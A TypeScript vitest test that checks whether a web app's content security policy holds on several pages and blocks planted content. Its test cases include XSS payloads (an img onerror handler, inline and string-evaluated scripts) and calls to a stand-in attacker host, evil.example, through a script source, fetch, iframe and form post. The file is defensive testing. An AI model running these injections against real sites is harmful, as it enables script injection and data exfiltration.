import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type StoryBrowser, settled } from './browser.ts';
import type { Program } from './program.ts';
import { beginStory } from './story.ts';

/** That a page meets no breach of the policy means something only where a breach is refused, and seen (issue 3 §4). */
describe('the content security policy', () => {
  let program: Program;
  let browser: StoryBrowser;
  beforeAll(async () => {
    ({ program, browser } = await beginStory('northmere'));
  });
  afterAll(async () => {
    await browser?.close();
    await program?.stop();
    program?.discard();
  });

  it.each(['/', '/suppliers', '/products/P-0001/bom', '/findings/F-0001', '/audit', '/settings/data', '/api/v1/'])(
    'is kept by %s',
    async (path) => {
      const { page, complaints } = browser;
      await page.goto(program.address + path);
      await settled(page);

      expect(complaints).toEqual([]);
    },
  );

  it.each([
    ['text as HTML', `document.body.innerHTML = '<img src=x onerror="window.planted = true">'`],
    ['a script in the page', `document.createElement('script').text = 'window.planted = true'`],
    ['a script of another server', `document.createElement('script').src = 'https://evil.example/x.js'`],
    ['text as a program', `setTimeout('window.planted = true')`],
    [
      'a style in the page',
      `document.head.append(Object.assign(document.createElement('style'), { textContent: 'body { opacity: 0.1 }' }))`,
    ],
    ['a style on an element', `document.body.setAttribute('style', 'opacity: 0.1')`],
    ['a call to another server', `fetch('https://evil.example/').catch(() => {})`],
    [
      'a frame',
      `document.body.append(Object.assign(document.createElement('iframe'), { src: 'https://evil.example/' }))`,
    ],
    [
      'a form to another server',
      `const form = Object.assign(document.createElement('form'), { action: 'https://evil.example/', method: 'post' }); document.body.append(form); form.submit()`,
    ],
  ])('refuses %s, and is heard to', async (_, plant) => {
    const { page, context } = await browser.another({});
    const breaches: string[] = [];
    await page.exposeFunction('heard', (directive: string) => breaches.push(directive));
    await page.addInitScript(() => {
      document.addEventListener('securitypolicyviolation', (event) => {
        (window as unknown as { heard(directive: string): void }).heard(event.effectiveDirective);
      });
    });
    await page.goto(`${program.address}/setup`);
    await settled(page);

    // Some are refused by an exception, too.
    await page.evaluate(plant).catch(() => {});
    while (breaches.length === 0) await page.waitForTimeout(20);
    const harm = await page.evaluate(() => [getComputedStyle(document.body).opacity, 'planted' in window]);
    await context.close();

    expect(harm).toEqual(['1', false]);
  });
});
